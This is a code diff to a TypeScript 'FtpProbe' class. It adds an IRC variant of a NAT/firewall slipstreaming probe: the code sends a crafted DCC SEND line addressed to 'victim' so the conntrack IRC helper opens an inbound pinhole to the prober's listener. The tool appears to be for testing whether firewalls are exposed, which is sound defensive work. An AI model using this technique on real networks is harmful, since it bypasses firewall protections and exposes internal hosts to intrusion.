@@ -93,7 +93,7 @@ export class FtpProbe {
 
   private async exchange(): Promise<Partial<ProbeReport>> {
     const job = this.job;
-    if (job.slipstream) return this.slipstream(job.slipstream.port);
+    if (job.slipstream) return job.slipstream.carrier === 'irc' ? this.dccSlipstream(job.slipstream.port) : this.slipstream(job.slipstream.port);
     this.begin('control-connect');
     const socket = await this.connectTo(job.host, job.port);
     this.socket = socket;
@@ -191,6 +191,33 @@ export class FtpProbe {
     this.onEndpoint(endpoint);
     this.write(`${mode} ${arg}`);
     this.done(`${mode} line sent inside the web connection`);
+
+    this.begin('data-connect');
+    const incoming = await accept;
+    this.done(`${incoming.remoteAddress}:${incoming.remotePort} -> ${incoming.localAddress}:${incoming.localPort}`);
+    return { dataEndpoint: endpoint };
+  }
+
+  /**
+   * The same through the IRC helper: an IRC connection whose first line is a DCC SEND request
+   * naming our own listener (its address as one 32-bit number, as IRC clients write it). The IRC
+   * helper (nf_conntrack_irc) expects a connection from anywhere to that address and port.
+   */
+  private async dccSlipstream(ircPort: number): Promise<Partial<ProbeReport>> {
+    this.begin('control-connect');
+    const irc = await this.connectTo(this.job.host, ircPort);
+    irc.setNoDelay(true);
+    this.socket = irc;
+    this.control = irc;
+    this.done(`${irc.localAddress}:${irc.localPort} -> ${this.job.host}:${ircPort} (an IRC connection, not FTP)`);
+
+    this.begin('mode');
+    const { endpoint, accept } = await this.listenForData();
+    const number = endpoint.host.split('.').reduce((n, octet) => n * 256 + Number(octet), 0);
+    this.dataEndpoint = endpoint;
+    this.onEndpoint(endpoint);
+    this.write(`PRIVMSG victim :\x01DCC SEND pinhole ${number} ${endpoint.port} 1\x01`);
+    this.done('DCC SEND line sent inside the IRC connection');
 
     this.begin('data-connect');
     const incoming = await accept;
